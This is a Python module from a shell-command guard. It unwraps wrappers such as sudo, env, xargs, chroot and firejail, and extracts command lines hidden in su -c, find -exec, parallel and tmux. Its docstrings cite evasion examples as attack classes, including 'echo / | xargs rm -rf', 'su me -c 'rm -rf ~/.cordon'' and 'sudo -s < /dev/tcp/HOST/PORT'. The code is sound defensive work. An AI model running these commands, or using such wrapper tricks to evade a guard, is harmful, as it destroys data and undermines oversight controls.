"""Wrapper commands removed from a parsed command: the program a wrapper runs, and where.

``sudo -u x rm``, ``env A=1 rm``, ``timeout 5 rm``, ``nice -n5 rm``, ``xargs -0 rm`` run ``rm``;
each rule judges ``rm``. Attack class: a wrapper option read wrongly makes its value the
program (``sudo -iu root cordon approve X`` was the program ``root``; ``ionice -t`` takes no
value, so ``ionice -t cordon approve X`` was ``approve``), and the rules reading programs
saw none of theirs. Hence each wrapper's options that take a value, short and long, and
bundled short options (``-iu NAME``, ``-n5``) read as getopt does. The scheduling, limit
and sandbox wrappers (``timeout``, ``nice``, ``ionice``, ``stdbuf``, ``chrt``, ``taskset``,
``setsid``, ``flock``, ``unshare``, ``prlimit``, ``firejail``, ``chroot``) are read with their
whole grammar (:data:`_FLAGS`): an option none of them has may take the next word, so which
word is the program is not known, and is asked about (fail closed); so is a program run
under another root directory (``chroot DIR``, ``unshare -R DIR``, ``firejail --chroot=DIR``),
whose absolute paths are not the ones written.

``env -S LINE`` / ``--split-string=LINE`` / ``-SLINE`` runs the words of LINE (split as env
does: quotes kept together, ``${NAME}`` known only at run time). ``env -C DIR`` /
``--chdir=DIR`` and ``sudo -D DIR`` / ``--chdir=DIR`` run the program in DIR: returned,
so relative paths are judged there (the shell's own redirects stay where the shell is).
``watch ARGS`` joins its words into a line ``sh -c`` runs (``watch -x``: runs them as given).
"""

from __future__ import annotations

import fnmatch
import itertools
import re
import shlex

from cordon.engine.option_lines import program_lines
from cordon.engine.shell_commands import DYNAMIC, KNOWN_PROGRAMS, base_name
from cordon.engine.stdin_shells import bare_shell

__all__ = ["WRAPPERS", "command_lines", "option_lines", "unwrap"]

#: wrapper commands that run the rest of their arguments as a command, and their options
#: that take a value (short ones also attached: ``-n5``, ``-iu NAME``; long ones also
#: ``--opt=VALUE``)
WRAPPERS: dict[str, frozenset[str]] = {
    "sudo": frozenset(
        {"-u", "-g", "-C", "-h", "-p", "-U", "-r", "-t", "-D", "-R", "-T", "--user", "--group",
         "--close-from", "--host", "--prompt", "--other-user", "--role", "--type", "--chdir",
         "--chroot", "--command-timeout"}
    ),
    "doas": frozenset({"-u", "-C"}),
    # (pkexec(1): polkit's sudo; cgexec(1): a control group; flatpak-spawn --host and
    # distrobox-host-exec: the host outside a sandbox, values only after ``=``)
    "pkexec": frozenset({"--user"}),
    "cgexec": frozenset({"-g"}),
    "flatpak-spawn": frozenset(),
    "distrobox-host-exec": frozenset(),
    # (programs that run the rest of their words under a library, a limit or an identity:
    # eatmydata(1), fakeroot(1), valgrind(1), numactl(8), cpulimit(1), chpst(8),
    # trickle(1), xvfb-run(1), dbus-launch(1); their values as listed, others ``--x=V``)
    "eatmydata": frozenset(),
    "fakeroot": frozenset({"-l", "--lib", "--faked", "-s", "-i", "-b"}),
    "valgrind": frozenset(),
    "catchsegv": frozenset(),
    "nocache": frozenset({"-n"}),
    "dbus-launch": frozenset(),
    "xvfb-run": frozenset({"-n", "-s", "-f", "-e", "-p", "-w", "--server-num", "--server-args",
                           "--auth-file", "--error-file", "--xauth-protocol", "--wait"}),
    "numactl": frozenset({"-N", "--cpunodebind", "-m", "--membind", "-C", "--physcpubind",
                          "-i", "--interleave", "-p", "--preferred", "-w",
                          "--weighted-interleave"}),
    "cpulimit": frozenset({"-l", "--limit", "-p", "--pid", "-e", "--exe"}),
    "chpst": frozenset({"-u", "-U", "-b", "-e", "-/", "-n", "-l", "-L", "-m", "-d", "-o", "-p",
                        "-f", "-c", "-t"}),
    "trickle": frozenset({"-d", "-u", "-w", "-t", "-l", "-n"}),
    # (an identity or inhibitor lock taken, a chroot session entered: gosu(1) USER CMD,
    # su-exec, setuidgid(8), s6-setuidgid; systemd-inhibit(1), schroot(1); init shims)
    "gosu": frozenset(),
    "su-exec": frozenset(),
    "setuidgid": frozenset(),
    "s6-setuidgid": frozenset(),
    "systemd-inhibit": frozenset({"--what", "--who", "--why", "--mode"}),
    "schroot": frozenset({"-c", "--chroot", "-u", "--user", "-d", "--directory", "-n",
                          "--session-name", "-o", "--option"}),
    "tini": frozenset({"-p", "-e"}),
    "dumb-init": frozenset({"-r", "--rewrite"}),
    "env": frozenset({"-u", "-C", "-S", "--unset", "--chdir", "--split-string"}),
    "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "-n", "-p", "-P", "-u", "--class", "--classdata", "--pid",
                         "--pgid", "--uid"}),
    "stdbuf": frozenset({"-i", "-o", "-e", "--input", "--output", "--error"}),
    "nohup": frozenset(),
    "exec": frozenset({"-a"}),
    "command": frozenset(),
    "builtin": frozenset(),
    "time": frozenset({"-f", "-o", "--format", "--output"}),
    # (-i, -e and -l take their value attached only: ``-i{}``, not ``-i {}``)
    "xargs": frozenset({"-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a", "--max-args",
                        "--arg-file", "--delimiter", "--max-procs", "--max-chars",
                        "--process-slot-var"}),
    "setsid": frozenset(),
    "chronic": frozenset(),
    "unbuffer": frozenset(),
    "watch": frozenset({"-n", "-q", "--interval", "--equexit"}),
    "strace": frozenset({"-o", "-e", "-p", "-s", "-u", "-a", "-b", "-E", "-I", "-O", "-P", "-S",
                         "-U", "-X", "--output", "--user", "--attach", "--env"}),
    # ltrace(1): options with a value; -o writes its trace
    "ltrace": frozenset({"-o", "-e", "-p", "-s", "-u", "-a", "-A", "-D", "-F", "-l", "-n",
                         "-w", "--output", "--library", "--indent", "--config", "--where"}),
    "torsocks": frozenset(),
    "proxychains": frozenset({"-f"}),
    "proxychains4": frozenset({"-f"}),
    # a positional before the program: a priority, a CPU mask, a lock file (below)
    "chrt": frozenset({"-T", "-P", "-D", "--sched-runtime", "--sched-period", "--sched-deadline"}),
    "taskset": frozenset(),
    "flock": frozenset({"-w", "-E", "--timeout", "--wait", "--conflict-exit-code"}),
    # (unshare's namespace options take a file only as ``--mount=F``; prlimit's limits only
    # attached: ``-n10``, ``--nofile=10``; firejail's values only after ``=``)
    "unshare": frozenset({"-R", "-w", "-S", "-G", "--root", "--wd", "--setuid", "--setgid",
                          "--map-user", "--map-group", "--map-users", "--map-groups",
                          "--propagation", "--setgroups", "--monotonic", "--boottime"}),
    "prlimit": frozenset({"-p", "-o", "--pid", "--output"}),
    "firejail": frozenset(),
    "chroot": frozenset({"--userspec", "--groups"}),
    # (busybox APPLET ARGS runs its applet: ``busybox touch .envrc`` is touch, ``busybox sh``
    # a shell; ``busybox --list`` runs none; toybox likewise)
    "busybox": frozenset(),
    "toybox": frozenset(),
    # (systemd-run(1), run0(1): their values also as ``--opt=VALUE``)
    "systemd-run": frozenset({"-u", "--unit", "-p", "--property", "--description", "--slice",
                              "-E", "--setenv", "-M", "--machine", "-H", "--host", "--uid",
                              "--gid", "--nice", "--working-directory", "--service-type",
                              "--path-property", "--socket-property", "--timer-property",
                              "--on-active", "--on-boot", "--on-startup", "--on-unit-active",
                              "--on-unit-inactive", "--on-calendar"}),
    "run0": frozenset({"-u", "--user", "-g", "--group", "--nice", "-D", "--chdir", "--setenv",
                       "--unit", "--property", "--description", "--slice", "--machine",
                       "--background", "--area"}),
}  # fmt: skip
#: GNU coreutils installed under a ``g`` prefix (Homebrew on macOS: ``gln``, ``gcp``): read
#: as the program they are
_G_PREFIXED = {
    f"g{n}": n
    for n in ("ln", "link", "cp", "mv", "rm", "unlink", "shred", "touch", "tee", "dd",
              "install", "truncate", "split", "csplit", "sort", "mkdir", "chmod", "chown",
              "sed")
}  # fmt: skip
#: ``coreutils --coreutils-prog=PROG ARGS``: the multi-call binary runs PROG
_MULTI_CALL = ("--coreutils-prog=", "--coreutils-prog-shebang=")
#: the options that take no value of the wrappers read with their whole grammar: any other
#: option of theirs is one the guard cannot read (its value may be the word taken for the
#: program), and is asked about. ``nice -5`` (an adjustment) is read apart.
_FLAGS: dict[str, frozenset[str]] = {
    "timeout": frozenset({"-f", "-p", "-v", "--foreground", "--preserve-status", "--verbose"}),
    "nice": frozenset(),
    "ionice": frozenset({"-t", "--ignore"}),
    "stdbuf": frozenset(),
    "chrt": frozenset({"-a", "-b", "-d", "-e", "-f", "-i", "-o", "-r", "-R", "-m", "-p", "-v",
                       "--all-tasks", "--batch", "--deadline", "--ext", "--fifo", "--idle",
                       "--other", "--rr", "--reset-on-fork", "--max", "--pid", "--verbose"}),
    "taskset": frozenset({"-a", "-c", "-p", "--all-tasks", "--cpu-list", "--pid"}),
    "setsid": frozenset({"-c", "-f", "-w", "--ctty", "--fork", "--wait"}),
    "flock": frozenset({"-s", "-x", "-e", "-u", "-n", "-o", "-F", "-c", "--shared",
                        "--exclusive", "--unlock", "--nb", "--nonblock", "--close", "--no-fork",
                        "--command", "--verbose", "--fcntl"}),
    "unshare": frozenset({"-m", "-u", "-i", "-n", "-p", "-U", "-C", "-T", "-f", "-r", "-c",
                          "--mount", "--uts", "--ipc", "--net", "--pid", "--user", "--cgroup",
                          "--time", "--fork", "--map-root-user", "--map-current-user",
                          "--map-auto", "--kill-child", "--mount-proc", "--keep-caps"}),
    "prlimit": frozenset({"--noheadings", "--raw", "--verbose", *(f"-{c}" for c in "cdefilmnqrstuvxy"),
                          "--core", "--data", "--nice", "--fsize", "--sigpending", "--memlock",
                          "--rss", "--nofile", "--msgqueue", "--rtprio", "--stack", "--cpu",
                          "--nproc", "--as", "--locks", "--rttime"}),
    "chroot": frozenset({"--skip-chdir"}),
    "systemd-run": frozenset({"--user", "--system", "--scope", "-r", "--remain-after-exit",
                              "--send-sighup", "-t", "--pty", "-T", "--pty-late", "-P",
                              "--pipe", "-q", "--quiet", "-G", "--collect", "-d",
                              "--same-dir", "--wait", "--no-block", "--no-ask-password",
                              "--expand-environment"}),
    "run0": frozenset({"--no-ask-password", "--slice-inherit", "--pty", "--pipe", "-i",
                       "--via-shell", "--empower", "--lightweight"}),
    "firejail": frozenset(),  # (any ``--name[=value]``: one word)
}  # fmt: skip
_HELP = frozenset({"-h", "-V", "--help", "--version"})
_NICE_RE = re.compile(r"--?\d+")
#: wrappers whose first positional is theirs, not the program's (``timeout 5``, ``chrt 1``,
#: ``taskset 0x1``, ``flock /tmp/l``); with ``-p`` chrt and taskset act on a process
_POSITIONAL = frozenset(
    {"timeout", "chrt", "taskset", "flock", "chroot", "gosu", "su-exec", "setuidgid",
     "s6-setuidgid"}
)  # fmt: skip
Unwrapped = tuple[str, tuple[str, ...], str | None]
#: a wrapper's options naming a file it writes (``strace -o F``, GNU ``time -o F``,
#: ``firejail --output=F``)
_OUT = {
    "strace": frozenset({"-o", "--output"}),
    "ltrace": frozenset({"-o", "--output"}),
    "time": frozenset({"-o", "--output"}),
    "firejail": frozenset({"--output", "--output-stderr"}),
}
#: the options that set the directory a wrapper runs its program in
_CHDIR = {
    "env": frozenset({"-C", "--chdir"}),
    "sudo": frozenset({"-D", "--chdir"}),
    "systemd-run": frozenset({"--working-directory"}),
    "run0": frozenset({"-D", "--chdir"}),
    "unshare": frozenset({"-w", "--wd"}),
    "flatpak-spawn": frozenset({"--directory"}),
}
#: options whose value is attached only: xargs' ``-i{}``, ``-eEOF``, ``-l2``; prlimit's
#: ``-n10`` (``-n 10`` shows the limit and runs the program ``10``)
_ATTACHED = {"xargs": ("-i", "-e", "-l"), "prlimit": tuple(f"-{c}" for c in "cdefilmnqrstuvxy")}
#: options that run the program under another root directory: its absolute paths are
#: not the ones written, so what it writes cannot be judged from them
_ROOT = {"unshare": frozenset({"-R", "--root"}), "firejail": frozenset({"--chroot", "--private"})}
_ENV_VAR = re.compile(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?")


#: a word the shell expands as a pattern: ``*``, ``?`` or a bracket expression closed
#: (a lone ``[`` is a literal character)
_GLOB_RE = re.compile(r"[*?]|\[.*\]")


def _option(a: str, nxt: str | None, opts: frozenset[str]) -> tuple[list[tuple[str, str]], int]:
    """``([(option, value)], words used)`` for the option word ``a`` (``nxt`` the word after
    it): a long option with ``=``, one that takes the next word, or a bundle of short
    options where the first that takes a value takes the rest or the next word."""
    if a.startswith("--"):
        name, eq, value = a.partition("=")
        if eq:
            return [(name, value)], 1
        if a in opts and nxt is not None:
            return [(a, nxt)], 2
        return [(a, "")], 1
    out: list[tuple[str, str]] = []
    for j in range(1, len(a)):
        flag = "-" + a[j]
        if flag in opts:
            if j + 1 < len(a):
                return [*out, (flag, a[j + 1 :])], 1
            return [*out, (flag, nxt or "")], 2 if nxt is not None else 1
        out.append((flag, ""))
    return out, 1


def _join(chdir: str | None, then: str | None) -> str | None:
    """The directory after ``chdir`` and then ``then`` (a second ``-C`` is relative to the
    first: ``env -C ~ env -C .cordon``)."""
    if then is None or chdir is None or then.startswith(("/", "~")):
        return chdir if then is None else then
    return f"{chdir}/{then}"


def _split_string(value: str) -> list[str]:
    """The words of ``env -S LINE`` (a variable in it known only at run time)."""
    try:
        return shlex.split(_ENV_VAR.sub(DYNAMIC, value))
    except ValueError:
        return [DYNAMIC]


def _xargs_items(args: tuple[str, ...], replace: str | None) -> tuple[str, ...]:
    """The arguments xargs runs a command with: the items it reads from stdin are known only
    at run time (:data:`DYNAMIC`), appended or put where the replace string is.

    Attack class: a delete target handed to ``rm`` through xargs (``echo / | xargs rm -rf``)."""
    if replace is None:
        return args
    if replace == "":
        return (*args, DYNAMIC)
    return tuple(a.replace(replace, DYNAMIC) for a in args)


def _replace(opts: list[tuple[str, str]], current: str | None) -> str | None:
    """xargs' replace string from its options (``-I R``, ``-IR``, ``-i[R]``,
    ``--replace[=R]``), else ``current``."""
    for k, v in opts:
        if k in ("-I", "-i", "--replace"):
            current = v or "{}"
    return current


def _read_option(
    prog: str, a: str, nxt: str | None, unread: list[str] | None
) -> tuple[list[tuple[str, str]], int]:
    """``([(option, value)], words used)`` for the option word ``a`` of the wrapper ``prog``
    (``nxt`` the word after it), as that wrapper's getopt reads it; an option of a wrapper
    read with its whole grammar (:data:`_FLAGS`) that is none of its own goes to ``unread``."""
    attached = _ATTACHED.get(prog, ())
    if attached and not a.startswith("--") and a.startswith(attached):
        found, used = [(a[:2], a[2:])], 1
    elif prog == "nice" and _NICE_RE.fullmatch(a):
        found, used = [("-n", a[1:])], 1  # (``nice -5``, ``nice --5``: an adjustment)
    elif prog == "firejail" and a.startswith("--"):
        name, _, value = a.partition("=")  # (its values only after ``=``)
        found, used = [(name, value)], 1
    else:
        found, used = _option(a, nxt, WRAPPERS[prog])
    flags = _FLAGS.get(prog)
    for k, v in found:
        if flags is not None and k not in flags and k not in WRAPPERS[prog] and k not in _HELP:
            if not (prog == "firejail" and k.startswith("--")) and unread is not None:
                unread.append(
                    f"{prog}: an option the guard cannot read ({k}), so which word is the program is not known"
                )
        if k in _ROOT.get(prog, ()) and (v or prog == "unshare") and unread is not None:
            unread.append(f"{prog} {k}: the program runs under another root directory")
    return found, used


def unwrap(
    argv: list[str],
    outputs: list[tuple[str, str]] | None = None,
    unread: list[str] | None = None,
) -> Unwrapped:
    """(program base name, its arguments, the directory a wrapper runs it in or None) with
    wrappers (``sudo -u x``, ``env A=1``, ``timeout 5``, ``xargs -0``) removed; ``("", (),
    None)`` when no program is left. ``outputs`` gets ``(wrapper, file)`` for each file a
    wrapper writes (``strace -o F``, ``time -o F``, ``firejail --output=F``); ``unread`` why
    a wrapper's words could not all be read (an option it does not know, another root
    directory): the caller asks about them. A wrapper left with no program that starts a
    shell (``sudo -i``, ``pkexec``, ``chroot /``) runs ``sh``: :func:`_no_program`."""
    i, chdir = 0, None
    xargs: str | None = None
    prog, seen, positional = "", set[str](), False  # (the last wrapper, its options)
    while i < len(argv):
        prog = base_name(argv[i])
        if prog == "coreutils" and i + 1 < len(argv) and argv[i + 1].startswith(_MULTI_CALL):
            argv = [*argv[: i + 1], argv[i + 1].partition("=")[2], *argv[i + 2 :]]
            i += 1
            continue
        prog = _G_PREFIXED.get(prog, prog)
        if prog == "bwrap" and unread is not None:  # (its --bind SRC DEST maps every path)
            unread.append("bwrap: the program runs in a new root whose mounts map its paths")
        if prog not in WRAPPERS:
            if i and unread is not None and prog not in ("[", "[[") and _GLOB_RE.search(prog):
                # (nice /sbin/reb??t: bash expands the pattern, the wrapper runs what it names)
                unread.append(f"a program name given as a pattern ({argv[i]!r})")
            return prog, _xargs_items(tuple(argv[i + 1 :]), xargs), chdir
        i += 1
        xargs = "" if prog == "xargs" else xargs
        positional, seen = prog in _POSITIONAL, set()
        watch_exec = False
        while i < len(argv):
            a = argv[i]
            if a == "--":
                i += 1
                break
            if prog == "env" and "=" in a and not a.startswith("-"):
                i += 1
                continue
            if not a.startswith("-") or a == "-":
                if prog == "env" and a == "-":  # (``env -``: an empty environment)
                    i += 1
                    continue
                if positional:
                    if prog == "chroot" and a.strip("/") and unread is not None:
                        unread.append(f"chroot {a}: the program runs under another root directory")
                    i, positional = i + 1, False
                    continue
                if prog == "watch" and not watch_exec:  # (its words joined, run by sh -c)
                    return "sh", ("-c", " ".join(argv[i:])), chdir
                break
            found, used = _read_option(prog, a, argv[i + 1] if i + 1 < len(argv) else None, unread)
            i += used
            keys = {k for k, _ in found}
            seen |= keys
            if prog == "flock" and keys & {"-c", "--command"}:
                return prog, tuple(argv[i - used :]), chdir  # (flock FILE -c LINE: its own)
            if prog in ("chrt", "taskset", "prlimit") and keys & {"-p", "--pid"}:
                return "", (), None  # (acts on a running process: runs none)
            if prog == "sudo" and keys & {"-e", "--edit"}:
                return "sudoedit", tuple(argv[i:]), chdir  # (sudo -e FILE: edits FILE)
            if prog == "xargs":
                xargs = _replace(found, xargs)
            if prog == "watch" and keys & {"-x", "--exec"}:
                watch_exec = True
            for k, v in found:
                if outputs is not None and k in _OUT.get(prog, ()):
                    outputs.append((prog, v))
                if k in _CHDIR.get(prog, ()):
                    chdir = _join(chdir, v)
                elif prog == "env" and k in ("-S", "--split-string"):
                    words = ["env", *_split_string(v), *argv[i:]]  # (env reads them on)
                    program, args, inner = unwrap(words, outputs, unread)
                    return program, args, _join(chdir, inner)
    return _no_program(prog, frozenset(seen), not positional, xargs, chdir)


def _no_program(
    prog: str, opts: frozenset[str], root_given: bool, xargs: str | None, chdir: str | None
) -> Unwrapped:
    """What :func:`unwrap` returns when its last wrapper ``prog`` (options ``opts``) is left
    with no program: ``sh`` when that wrapper then starts a shell, which reads its standard
    input (:func:`.stdin_shells.bare_shell`; ``xargs sudo -i``: ``sh -c ITEMS``), else no
    program.

    Attack class: ``echo CMD | sudo -i``, a here-document into ``sudo -s``, ``sudo -s <
    /dev/tcp/HOST/PORT`` were read as running no program, the text they run unread."""
    if prog and bare_shell(prog, opts, root_given):
        return "sh", () if xargs is None else ("-c", DYNAMIC), chdir
    return "", (), None


#: programs with an option whose value is a shell command line
_COMMAND_OPTION = {"script": "c", "su": "c", "runuser": "c", "flock": "c", "sg": "c"}
_SH = frozenset({"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"})
_SOCAT_RUN = re.compile(r"^(?:exec|system):(.*?)(?:,[\w-]+(?:=[^,]*)?)*$", re.IGNORECASE)
#: programs that run a word of theirs as a shell command line (``tmux new -d 'LINE'``,
#: ``xterm -e 'LINE'``, ``parallel ::: 'LINE'``, ``dbus-run-session -- sh -c 'LINE'``)
_RUNS_LINES = frozenset(
    {"parallel", "sem", "sg", "runuser", "su", "flock", "tmux", "screen", "byobu", "abduco",
     "dtach", "daemonize", "start-stop-daemon", "xterm", "gnome-terminal", "konsole",
     "x-terminal-emulator", "kitty", "alacritty", "wezterm", "xfce4-terminal", "terminator",
     "dbus-launch", "dbus-run-session", "ssh-agent", "entr", "nsenter", "setpriv", "capsh",
     "ts", "pueue", "firejail", "bwrap", "unshare", "systemd-run", "run0", "chroot", "prlimit",
     "nix-shell", "tsp", "nq", "xvfb-run"}
)  # fmt: skip
#: programs that run the rest of their words as a program and its arguments, not a line, and
#: the subcommand after which they do (none: all their words): a debugger's or profiler's
#: program, a container or root directory entered, a tool environment's run/exec
_RUNS_ARGV: dict[str, frozenset[str]] = {
    **dict.fromkeys(
        ("gdb", "perf", "proot", "fakechroot", "faketime", "lxc-attach", "systemd-nspawn",
         "ifne", "chronic", "rlwrap", "uvx", "bunx", "npx", "pnpx", "dotenv", "env-cmd",
         "with-contenv"), frozenset()),
    **dict.fromkeys(
        ("poetry", "uv", "pipx", "pdm", "hatch", "rye", "pipenv", "conda", "mamba", "micromamba",
         "op", "doppler"), frozenset({"run"})),
    **dict.fromkeys(("bundle", "direnv", "asdf", "aws-vault"), frozenset({"exec"})),
    "pixi": frozenset({"run", "exec"}),
    "mise": frozenset({"exec", "x"}),
    "rtx": frozenset({"exec", "x"}),
    "nix": frozenset({"develop", "shell"}),
    "machinectl": frozenset({"shell"}),
}  # fmt: skip
#: editors whose ``!CMD`` (``vim -c '!CMD'``, ``less +'!CMD'``) runs CMD with a shell
_EDITORS = frozenset({"vi", "vim", "nvim", "ex", "view", "less", "more"})


def option_lines(prog: str, args: tuple[str, ...]) -> list[str]:
    """The shell command lines ``prog`` runs from an option: ``script -qec LINE``,
    ``su -c LINE``, ``script --command=LINE``, socat's ``EXEC:LINE,pty``."""
    if prog == "socat":
        return [m.group(1) for a in args if (m := _SOCAT_RUN.match(a)) is not None]
    short = _COMMAND_OPTION.get(prog)
    found = [] if short is None else _values(args, short)
    return found + program_lines(prog, args)  # (ssh -o ProxyCommand=LINE, man -P LINE)


def _values(args: tuple[str, ...], short: str) -> list[str]:
    """The values of the option ``-SHORT`` (bundled too: ``-qec LINE``) or ``--command``."""
    out: list[str] = []
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if a == "--command":
            out.append(nxt)
        elif a.startswith("--command="):
            out.append(a.partition("=")[2])
        elif a.startswith("-") and not a.startswith("--") and short in a[1:]:
            at = a.index(short, 1)
            out.append(a[at + 1 :] if at + 1 < len(a) else nxt)
    return out


def _find_execs(args: tuple[str, ...]) -> list[str]:
    """The command lines a find's ``-exec``/``-execdir``/``-ok``/``-okdir`` runs: a shell's
    ``-c LINE``, and a program's words without ``{}`` (the same fixed line run once per
    found path: ``-exec ln -s .vscode v ;``, ``-exec touch .envrc ;``), in a directory
    known only at run time for ``-execdir``. A program given ``{}`` is judged as find's
    (its links: :mod:`.shell_links`)."""
    out: list[str] = []
    for i, a in enumerate(args[:-1]):
        if a not in ("-exec", "-execdir", "-ok", "-okdir"):
            continue
        end = next((k for k in range(i + 1, len(args)) if args[k] in (";", "+")), len(args))
        inner = args[i + 1 : end]
        if not inner:
            continue
        if base_name(inner[0]) in _SH:
            out += _values(inner[1:], "c")
        elif not any("{}" in w for w in inner):
            line = shlex.join(inner)
            out.append(f'cd "$(:)" && {line}' if a.endswith("dir") else line)
    return out


#: GNU parallel options that take the next word as their value (parallel(1))
_PARALLEL_VALUE = frozenset(
    {"-j", "--jobs", "-P", "--max-procs", "-N", "-n", "--max-args", "-S", "--sshlogin",
     "--delay", "--timeout", "-d", "--delimiter", "-C", "--colsep", "-I", "--joblog",
     "--results", "--res", "--tmpdir", "-E", "--retries", "--memfree", "--load",
     "--tagstring", "--workdir", "--wd", "-L", "--max-lines", "-s", "--max-chars",
     "--basefile", "--bf", "--return", "--env", "--halt", "--sshloginfile", "--slf"}
)  # fmt: skip
#: at most this many combinations of parallel's input sources read (more: not known)
_MAX_COMBOS = 16


def _parallel_lines(args: tuple[str, ...]) -> list[str]:
    """The command lines ``parallel CMD ::: A B ::: C`` runs: CMD with each combination of
    the sources' words (put where ``{}``/``{1}`` is, else appended); an input read from a
    file or stdin (``::::``, ``-a``, no ``:::``), or too many combinations: known only at
    run time (as ``xargs CMD``'s).

    Attack class: ``parallel ln ::: .envrc ::: e`` runs ``ln .envrc e``; the words hold no
    space, so no rule read them as a command line."""
    i, unknown = 0, False
    while i < len(args) and args[i].startswith("-") and not args[i].startswith(":::"):
        unknown = unknown or args[i] in ("-a", "--arg-file")
        i += 2 if args[i] in _PARALLEL_VALUE else 1
    cmd: list[str] = []
    groups: list[list[str]] = []
    for a in args[i:]:
        unknown = unknown or a in ("::::", "::::+")
        if a in (":::", ":::+", "::::", "::::+"):
            groups.append([])
        elif groups:
            groups[-1].append(a)
        else:
            cmd.append(a)
    combos = list(itertools.islice(itertools.product(*groups), _MAX_COMBOS + 1))
    if not cmd:
        return []  # (parallel ::: 'LINE' ...: each word a line, read by the caller)
    spaced = any(c.isspace() for w in cmd for c in w)
    if spaced:  # ('rm -rf {}': the words are one shell line, each input quoted into it)
        cmd = [" ".join(cmd)]
    if unknown or not groups or len(combos) > _MAX_COMBOS:
        return [_unknown_inputs(cmd)]
    out = []
    for combo in combos:
        if spaced:
            line = _placed(cmd[0], tuple(map(shlex.quote, combo)))
            out.append(line if line != cmd[0] else f"{line} {shlex.join(combo)}")
            continue
        words = [_placed(w, combo) for w in cmd]
        out.append(shlex.join(words if words != cmd else [*cmd, *combo]))
    return out


_PLACEHOLDER = re.compile(r"\{[^{}\s]*\}")


def _unknown_inputs(cmd: list[str]) -> str:
    """``cmd`` as a line whose inputs are known only at run time (``ls | parallel gzip``:
    as ``xargs gzip``), each a command substitution's output."""
    if len(cmd) == 1 and any(c.isspace() for c in cmd[0]):  # (one shell line)
        line = cmd[0]
        return _PLACEHOLDER.sub('"$(:)"', line) if _PLACEHOLDER.search(line) else f'{line} "$(:)"'
    if not any(_PLACEHOLDER.search(w) for w in cmd):
        return shlex.join(cmd) + ' "$(:)"'
    return " ".join(
        '"$(:)"'.join(shlex.quote(p) if p else "" for p in _PLACEHOLDER.split(w)) for w in cmd
    )


def _placed(word: str, combo: tuple[str, ...]) -> str:
    """``word`` with parallel's replacement strings filled from ``combo`` (``{}`` all of
    it, ``{N}`` the Nth; ``{.}``, ``{/}`` ... as the input they derive from)."""
    word = word.replace("{}", " ".join(combo))
    for n, value in enumerate(combo, 1):
        word = word.replace(f"{{{n}}}", value)
    return _PLACEHOLDER.sub(lambda _m: " ".join(combo), word) if "{" in word else word


def command_lines(prog: str, args: tuple[str, ...]) -> list[str]:
    """The shell command lines ``prog`` runs, for the parser to read as ``sh -c``: an
    option's (:func:`option_lines`), a word holding a whole line for a program that runs
    one (:data:`_RUNS_LINES`), an editor's ``!CMD``.

    Attack class: ``su me -c 'rm -rf ~/.cordon'``, ``tmux new -d 'LINE'``, ``xterm -e
    'LINE'`` hid the line from every rule that reads parsed commands (the files it deletes
    or overwrites). A word with a space that is no command line (``tmux new -s 'my
    session'``) parses as a program nobody knows."""
    out = option_lines(prog, args)
    if prog == "find":
        out += _find_execs(args)
    elif prog == "parallel":
        out += _parallel_lines(args)
        out += [a for a in args if any(c.isspace() for c in a) and a not in out]
    elif prog in _RUNS_LINES:
        out += [a for a in args if any(c.isspace() for c in a) and a not in out]
        out += _argv_suffixes(args)
    elif prog in _RUNS_ARGV:
        subs = _RUNS_ARGV[prog]
        at = next((i for i, a in enumerate(args) if a in subs), None) if subs else -1
        out += _argv_suffixes(args[at + 1 :]) if at is not None else []
    elif prog == "ip":
        out += _netns_exec(args)
    elif prog in _EDITORS:
        out += [a.lstrip(":+")[1:] for a in args if a.lstrip(":+").startswith("!")]
    return out


#: how many words of a launcher's are tried as the start of the program it runs
_SUFFIX_STARTS = 64


def _argv_suffixes(args: tuple[str, ...]) -> list[str]:
    """A launcher's words from each word that is not an option on, as command lines:
    ``setpriv --reuid=1000 rm -rf DIR``, ``nsenter -t 1 -m rm -rf DIR``, ``runuser -u me --
    rm -rf DIR``, ``screen -dm rm -rf DIR`` run ``rm -rf DIR`` as its own argv, after options
    whose values the guard does not read (setpriv(1), nsenter(1), runuser(1), screen(1)).
    Where the options' values end is not known, so every start is read: a value word taken
    for a program is one nobody knows, and the program's own line is judged whole (a delete
    outside the project was allowed under each of them)."""
    starts = [i for i, a in enumerate(args) if a and not a.startswith("-")]
    # (more starts than are read: the program may be past them, known only at run time)
    unread = [DYNAMIC] if len(starts) > _SUFFIX_STARTS else []
    starts = starts[:_SUFFIX_STARTS]
    # (the last word alone too: screen -dm reboot; a pattern, other than the first start of
    # two words or more, only where a program some rule reads fits it, /bin/r[m]: a word such
    # as 'print([1])' or src/*.py is an argument, and read as a program it was asked about)
    read = [i for n, i in enumerate(starts) if (n == 0 and i + 1 < len(args)) or _may_run(args, i)]
    return [shlex.join(args[i:]) for i in read] + unread


#: a pattern that may name a program file (``/sbin/reb??t``), not program text or a line
_PATH_PATTERN_RE = re.compile(r"[\w./~*?\[\]+-]+")


def _may_run(args: tuple[str, ...], i: int) -> bool:
    """Whether ``args[i]``, where a launcher's program may start, is read as one: a pattern
    only if a program some rule reads fits it (the shell expands it first), or if it names a
    file and only options and their values come before it (``setpriv --reuid 0
    /sbin/reb??t``: where the program goes, asked about as the same word alone is)."""
    word = args[i]
    if not any(c in word for c in "*?["):
        return True
    name = base_name(word)
    if any(fnmatch.fnmatchcase(p, name) for p in KNOWN_PROGRAMS):
        return True
    before = args[:i]
    return (
        _GLOB_RE.search(word) is not None
        and _PATH_PATTERN_RE.fullmatch(word) is not None
        and all(
            a.startswith("-") or (j and before[j - 1].startswith("-")) for j, a in enumerate(before)
        )
    )


def _netns_exec(args: tuple[str, ...]) -> list[str]:
    """``ip [OPTIONS] netns exec NAME CMD...`` (ip-netns(8)) runs CMD in the namespace NAME;
    ``ip -all netns exec CMD...`` in every namespace: both starts are read."""
    for i in range(len(args) - 2):
        if args[i] == "netns" and args[i + 1] == "exec":
            return [shlex.join(args[j:]) for j in (i + 2, i + 3) if j < len(args)]
    return []
